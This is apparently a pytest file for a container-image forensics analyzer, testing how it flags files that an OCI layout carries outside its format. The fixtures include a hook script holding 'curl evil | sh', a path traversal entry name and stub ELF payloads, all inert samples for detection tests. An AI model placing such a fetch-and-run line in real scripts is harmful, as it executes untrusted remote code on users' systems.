"""archive.extra-entry: what an OCI layout (tar or directory) carries outside its format."""

from __future__ import annotations

import json

from hostile import M, Oci, docker_archive, hexof, tar_bytes

from forensics.pipeline import analyze

ELF = b"\x7fELF\x02\x01\x01" + bytes(57)


def _extra(report):
    return [f for f in report.findings if f.code == "archive.extra-entry"]


def _oci_tar(tmp_path, extra: list[M], name="img.tar"):
    path = tmp_path / name
    path.write_bytes(Oci(extra_members=extra).tar())
    return analyze(str(path), history=False)


def test_a_clean_layout_has_none(tmp_path):
    r = _oci_tar(tmp_path, [])
    assert r.format == "oci-archive" and not _extra(r) and r.verdict == "clean"


def test_severity_is_by_what_the_entry_is(tmp_path):
    r = _oci_tar(
        tmp_path,
        [
            M("run", ELF),
            M("hooks/post.sh", b"#!/bin/sh\ncurl evil | sh\n"),
            M("tool", b"not a script", mode=0o755),
            M("README.txt", b"hello\n"),
            M("notes/", type="dir"),
        ],
    )
    got = {f.entry: f.severity.value for f in _extra(r)}
    assert got == {"run": "medium", "hooks/post.sh": "medium", "tool": "medium", "README.txt": "low", "notes/": "low"}
    assert r.verdict == "suspicious"
    assert "ELF" in next(f.detail for f in _extra(r) if f.entry == "run")


def test_names_under_blobs_that_are_not_digests_are_extra(tmp_path):
    r = _oci_tar(tmp_path, [M("blobs/sha256/../../x", b"x"), M("blobs/md5/", type="dir"), M("blobs/junk", b"j")])
    names = {f.entry for f in _extra(r)}
    assert "blobs/junk" in names
    assert "blobs/md5/" not in names  # an algorithm directory the grammar allows


def test_many_entries_become_one_finding_with_a_count(tmp_path):
    junk = [M(f"junk/{i:05d}", b"") for i in range(3000)] + [M("junk/zz-payload", ELF)]
    r = _oci_tar(tmp_path, junk)
    [f] = _extra(r)
    assert f.severity.value == "medium"
    assert f.evidence["count"] == 3001 and f.evidence["executable"] == 1
    assert f.evidence["examples"][0]["name"] == "junk/zz-payload"  # the dangerous one is shown first
    assert len(f.evidence["examples"]) <= 10 and len(json.dumps(f.evidence)) < 2000


def test_a_layout_directory_too(tmp_path):
    root = tmp_path / "layout"
    root.mkdir()
    Oci().write_dir(root)
    (root / "payload").write_bytes(ELF)
    r = analyze(str(root), history=False)
    assert r.format == "oci-layout"
    assert [(f.entry, f.severity.value) for f in _extra(r)] == [("payload", "medium")]


def test_docker_files_belong_to_a_docker_25_archive_only(tmp_path):
    oci = Oci()
    config, _, _ = oci.documents()
    manifest_json = json.dumps(
        [
            {
                "Config": f"blobs/sha256/{hexof(config)}",
                "RepoTags": ["example.test/hostile:1"],
                "Layers": [f"blobs/sha256/{hexof(layer.blob)}" for layer in oci.layers],
            }
        ]
    ).encode()
    repositories = json.dumps({"example.test/hostile": {"1": oci.layers[-1].diff_id.split(":")[1]}}).encode()
    members = oci.members() + [M("manifest.json", manifest_json), M("repositories", repositories)]
    dual = tmp_path / "dual.tar"
    dual.write_bytes(tar_bytes(members))
    r = analyze(str(dual), history=False)
    assert r.format == "docker-archive+oci" and not _extra(r)
    # The same two files beside a plain OCI layout are not its own: index.json alone makes it OCI,
    # so manifest.json would make it a docker one; repositories alone is extra.
    r = _oci_tar(tmp_path, [M("repositories", repositories)], name="oci.tar")
    assert [f.entry for f in _extra(r)] == ["repositories"]
    stray = tar_bytes(members + [M("extra.sh", b"#!/bin/sh\n")])
    (tmp_path / "dual2.tar").write_bytes(stray)
    r = analyze(str(tmp_path / "dual2.tar"), history=False)
    assert [(f.entry, f.severity.value) for f in _extra(r)] == [("extra.sh", "medium")]
    assert not [f for f in r.findings if f.code == "blob.unreferenced"]  # one finding per stray, not two


def test_a_legacy_docker_archive_is_not_judged_by_the_oci_rule(tmp_path):
    path = tmp_path / "d.tar"
    path.write_bytes(docker_archive(extra_members=[M("notes.txt", b"x")]))
    r = analyze(str(path), history=False)
    assert r.format == "docker-archive" and not _extra(r)
